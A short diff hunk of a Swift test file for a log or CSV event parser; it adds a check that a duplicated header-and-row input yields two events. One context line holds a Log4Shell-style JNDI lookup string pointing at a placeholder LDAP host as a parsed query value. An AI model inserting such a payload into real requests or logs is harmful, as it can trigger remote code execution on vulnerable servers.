@@ -23,6 +23,8 @@ import Testing
     #expect(event.text("query") == "x=${jndi:ldap://203.0.113.5/a}" && event.text("http_version") == "HTTP/1.1")
     #expect(event.text("user_agent") == #"curl "x", 1"# && event.text("trace_id") == "1-58-1d")
     #expect(event.locator.line == 2)
+    let twice = "\(Self.header)\n\(Self.row)\n"
+    #expect(try EventDump(twice + twice, path: "query.csv").events.count == 2)
     #expect(dump.coverages.count { $0.state == .skipped } == 1)
   }
 
